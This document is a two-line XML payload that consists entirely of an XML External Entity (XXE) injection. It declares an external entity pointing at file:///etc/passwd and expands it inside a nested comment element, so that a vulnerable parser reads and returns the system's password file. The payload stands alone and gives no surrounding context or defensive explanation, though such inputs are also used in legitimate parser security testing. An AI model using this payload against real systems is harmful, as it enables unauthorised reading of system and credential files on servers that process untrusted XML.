<!DOCTYPE sls [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<sls><web><test.nop><comment>&x;</comment></test.nop></web></sls>
